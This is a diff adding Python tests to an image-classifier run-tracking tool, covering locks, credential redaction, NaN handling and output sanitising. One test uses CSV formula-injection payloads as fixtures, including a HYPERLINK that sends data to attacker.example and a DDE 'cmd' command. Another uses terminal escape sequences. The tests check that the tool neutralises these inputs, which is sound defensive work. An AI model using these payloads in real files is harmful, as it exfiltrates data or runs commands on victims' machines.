@@ -1,4 +1,5 @@
 import csv
+import fcntl
 import io
 import json
 import os
@@ -8,11 +9,14 @@ import sys
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from image_classifier.run_dir import STAGING_MARKER, _lock
+from image_classifier.errors import RunDirectoryError
+from image_classifier.run_dir import STAGING_MARKER, RunDirectory, is_locked, lock_directory
 from image_classifier.tracking.records import COMPLETED
 from image_classifier.tracking.registry import REGISTRY_FILE
-from image_classifier.tracking.runs import LIST_COLUMNS, MODEL_COLUMNS, build_parser, main
+from image_classifier.tracking.runs import FORMULA_STARTS, LIST_COLUMNS, MODEL_COLUMNS, build_parser, format_csv, main
 from tests.conftest import command, run_command
 
 
@@ -140,7 +144,7 @@ def _damage(experiments: Path) -> dict[str, str]:
 
 def test_unfinished_old_and_damaged_runs_are_listed_with_a_reason(experiments, capsys):
     expected = _damage(experiments)
-    lock = _lock(experiments / "e" / "locked.incomplete")  # as the trainer holds it while it runs
+    lock = lock_directory(experiments / "e" / "locked.incomplete")  # as the trainer holds it while it runs
     (experiments / REGISTRY_FILE).write_text("{not json")
     code, out, err = _run(capsys, "list", "--experiments_folder", str(experiments), "--format", "json")
     assert code == 0
@@ -152,7 +156,7 @@ def test_unfinished_old_and_damaged_runs_are_listed_with_a_reason(experiments, c
     assert "older version" in listed["old_version"]["note"] and listed["old_version"]["test_accuracy"] is not None
     assert "--resume" in listed["interrupted"]["note"] and "killed" in listed["running"]["note"]
     assert "running it now" in listed["locked"]["note"]
-    os.close(lock)
+    lock.release()
     assert "registered versions not shown" in err and "is damaged" in err  # a bad registry: one warning
     code, out, _ = _run(capsys, "list", "--experiments_folder", str(experiments))  # the table, too
     assert code == 0 and len(out.splitlines()) == 1 + len(expected)
@@ -193,6 +197,21 @@ def test_show_prints_arguments_environment_epochs_and_files(trained_experiments,
     shown = json.loads(out)
     assert shown["run_json"] == run_json and shown["metrics"] == _metrics(trained_experiments, "seed1")
     assert shown["files"]["model.pth"] == (trained_experiments / "e" / "seed1" / "model.pth").stat().st_size
+
+
+def test_show_hides_credentials_an_earlier_version_kept_in_run_json(experiments, capsys):
+    """Before issue 14, a password holding '/' was kept whole in run.json's mlflow section."""
+    run_json = experiments / "e" / "seed0" / "run.json"
+    uri = "http://user-Qa1:pw-Zk9/pw-Xy7@127.0.0.1:5000"
+    manifest = json.loads(run_json.read_text())
+    manifest["mlflow"] = {"tracking_uri": uri, "run_id": None, "lost_calls": 3, "error": f"Invalid url: {uri}/api"}
+    run_json.write_text(json.dumps(manifest))
+    for output_format in ("text", "json"):
+        code, out, _ = _run(
+            capsys, "show", "e/seed0", "--format", output_format, "--experiments_folder", str(experiments)
+        )
+        assert code == 0 and "http://127.0.0.1:5000" in out
+        assert not any(piece in out for piece in ("user-Qa1", "pw-Zk9", "pw-Xy7")), out
 
 
 @pytest.mark.parametrize(
@@ -302,3 +321,187 @@ def test_usage_errors_never_echo_a_value(capsys):
         assert "S3cret-value" not in capsys.readouterr().err
     help_text = build_parser().format_help()
     assert all(name in help_text for name in ("list", "show", "compare", "register", "alias", "models"))
+
+
+# How `list` and `show` tell a running run from an interrupted one, as often as a process can ask.
+_ASK_FOREVER = """
+import sys
+from pathlib import Path
+from image_classifier.run_dir import is_locked
+folder = Path(sys.argv[1])
+print("asking", flush=True)
+while True:
+    is_locked(folder)
+"""
+
+
+def test_listing_never_makes_a_writer_fail(tmp_path):
+    experiments = tmp_path / "experiments"
+    with RunDirectory(experiments / "e" / "r") as run_dir:
+        run_dir.create({"step": 0}, {"status": "interrupted"})  # an unfinished run nobody holds
+    reader = subprocess.Popen(
+        [sys.executable, "-c", _ASK_FOREVER, str(run_dir.work_dir)], stdout=subprocess.PIPE, text=True
+    )
+    try:
+        assert reader.stdout.readline() == "asking\n"
+        refused = []
+        for _ in range(300):
+            with RunDirectory(experiments / "e" / "r") as run_dir:
+                try:
+                    run_dir.open_for_resume()
+                except RunDirectoryError as exc:
+                    refused.append(str(exc))
+        assert reader.poll() is None  # it listed the whole time
+        assert refused == []
+    finally:
+        reader.kill()
+        reader.wait()
+
+
+_HOLD = """
+import sys, time
+from pathlib import Path
+from image_classifier.run_dir import lock_directory
+lock = lock_directory(Path(sys.argv[1]))
+print("held", flush=True)
+time.sleep(600)
+"""
+
+
+def test_asking_whether_a_run_is_held_takes_no_lock(tmp_path, monkeypatch):
+    held, free = tmp_path / "held.incomplete", tmp_path / "free.incomplete"
+    held.mkdir()
+    free.mkdir()
+    holder = subprocess.Popen([sys.executable, "-c", _HOLD, str(held)], stdout=subprocess.PIPE, text=True)
+    try:
+        assert holder.stdout.readline() == "held\n"
+
+        def no_locking(fd, operation):
+            raise AssertionError("a reader took a lock")
+
+        monkeypatch.setattr(fcntl, "flock", no_locking)
+        assert is_locked(held) and not is_locked(free)
+    finally:
+        holder.kill()
+        holder.wait()
+    monkeypatch.undo()
+    assert not is_locked(held)
+
+
+def _strict(text: str):
+    def refuse(constant):
+        raise AssertionError(f"{constant} in the output: not strict JSON")
+
+    return json.loads(text, parse_constant=refuse)
+
+
+def test_runs_whose_files_hold_nan_read_everywhere_and_print_strict_json(experiments, capsys):
+    # What older versions wrote for a diverged run: bare NaN and Infinity in metrics.json and run.json.
+    run = experiments / "e" / "seed0"
+    metrics = json.loads((run / "metrics.json").read_text())
+    metrics["test_accuracy"] = float("nan")
+    metrics["history"][0].update(train_loss=float("nan"), test_loss=float("inf"))
+    (run / "metrics.json").write_text(json.dumps(metrics))
+    manifest = json.loads((run / "run.json").read_text())
+    manifest["arguments"]["learning_rate"] = float("-inf")
+    (run / "run.json").write_text(json.dumps(manifest))
+    assert "NaN" in (run / "metrics.json").read_text()
+    folder = ("--experiments_folder", str(experiments))
+
+    code, out, err = _run(capsys, "show", "e/seed0", "--format", "json", *folder)
+    assert (code, err) == (0, "")
+    shown = _strict(out)
+    assert shown["metrics"]["test_accuracy"] is None and shown["metrics"]["history"][0]["test_loss"] is None
+    assert shown["run_json"]["arguments"]["learning_rate"] is None
+    code, out, _ = _run(capsys, "list", "--format", "json", "--sort", "test_accuracy", *folder)
+    listed = {row["run"]: row for row in _strict(out)}
+    assert listed["seed0"]["test_accuracy"] is None and listed["seed0"]["learning_rate"] is None
+    for argv in (["show", "e/seed0"], ["list"], ["list", "--format", "csv"], ["compare", "e/seed0", "e/seed1"]):
+        code, out, err = _run(capsys, *argv, *folder)
+        assert code == 0 and "Traceback" not in err, (argv, err)
+    code, out, err = _run(capsys, "register", "e/seed0", "--name", "m", *folder)
+    assert code == 0, err
+    code, out, _ = _run(capsys, "models", "--format", "json", *folder)
+    assert _strict(out)[0]["test_accuracy"] is None
+
+
+@given(text=st.text(max_size=12))
+def test_csv_cells_are_never_formulas(text):
+    rows = [{"experiment": "e", "run": "r", "note": text, "versions": [text, "x"], "seed": -3, "momentum": -0.5}]
+    (row,) = csv.DictReader(io.StringIO(format_csv(rows, LIST_COLUMNS)))
+    for cell in (row["note"], row["versions"]):
+        assert not cell.startswith(FORMULA_STARTS), repr(cell)
+    assert row["note"] in (text, "'" + text)  # nothing but the apostrophe is added
+    assert (row["seed"], row["momentum"]) == ("-3", "-0.5")  # numbers stay numbers
+
+
+def test_list_as_csv_quotes_formulas_from_run_files(experiments, capsys):
+    run = experiments / "e" / "seed0"
+    manifest = json.loads((run / "run.json").read_text())
+    formulas = {
+        "batch_size": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
+        "learning_rate": "+1+cmd|' /C calc'!A0",
+        "momentum": "-2+3",
+        "seed": "@SUM(A1:A9)",
+    }
+    manifest["arguments"].update(formulas)
+    manifest["started_at"] = "\t=1+1"
+    (run / "run.json").write_text(json.dumps(manifest))
+    code, out, _ = _run(capsys, "list", "--format", "csv", "--experiments_folder", str(experiments))
+    assert code == 0
+    row = next(row for row in csv.DictReader(io.StringIO(out)) if row["run"] == "seed0")
+    assert {key: row[key] for key in formulas} == {key: "'" + value for key, value in formulas.items()}
+    assert row["started"] == "'\t=1+1"
+
+
+_WITHOUT_MLFLOW = """
+import sys
+sys.modules["mlflow"] = None  # importing mlflow (or any part of it) now fails, as where it is not installed
+from image_classifier.tracking.runs import main
+sys.exit(main(sys.argv[1:]))
+"""
+
+
+@pytest.mark.parametrize("argv", [["list"], ["list", "--format", "json"], ["show", "e/seed0"]])
+def test_list_and_show_work_with_a_tracking_uri_but_no_mlflow(trained_experiments, argv):
+    env = {**os.environ, "MLFLOW_TRACKING_URI": "http://127.0.0.1:9"}
+    result = subprocess.run(
+        [sys.executable, "-c", _WITHOUT_MLFLOW, *argv, "--experiments_folder", str(trained_experiments)],
+        capture_output=True,
+        text=True,
+        timeout=600,
+        env=env,
+    )
+    assert result.returncode == 0, result.stderr
+    assert "seed0" in result.stdout
+    (warning,) = result.stderr.strip().splitlines()
+    assert " WARNING " in warning and "MLflow is not installed" in warning
+
+
+def test_models_with_a_tracking_uri_but_no_mlflow_is_one_error(trained_experiments):
+    env = {**os.environ, "MLFLOW_TRACKING_URI": "http://127.0.0.1:9"}
+    result = subprocess.run(
+        [sys.executable, "-c", _WITHOUT_MLFLOW, "models", "--experiments_folder", str(trained_experiments)],
+        capture_output=True,
+        text=True,
+        timeout=600,
+        env=env,
+    )
+    assert result.returncode == 1
+    (line,) = result.stderr.strip().splitlines()
+    assert line.startswith("error: ") and "MLflow is not installed" in line
+
+
+def test_text_from_run_files_cannot_drive_the_terminal(experiments, capsys):
+    run = experiments / "e" / "seed0"
+    manifest = json.loads((run / "run.json").read_text())
+    manifest["arguments"]["\x1b[2Jkey"] = "\x1b]0;pwned\x07value\nsecond line"
+    manifest["started_at"] = "\x1b[31m2024"
+    (run / "run.json").write_text(json.dumps(manifest))
+    folder = ("--experiments_folder", str(experiments))
+    for argv in (["show", "e/seed0"], ["list"], ["compare", "e/seed0", "e/seed1"]):
+        code, out, _ = _run(capsys, *argv, *folder)
+        assert code == 0
+        assert not any(char in out for char in "\x1b\x07\r"), argv
+    code, out, _ = _run(capsys, "show", "e/seed0", *folder)
+    assert "\\x1b[2Jkey" in out and "\\x1b]0;pwned\\x07value\\nsecond line" in out
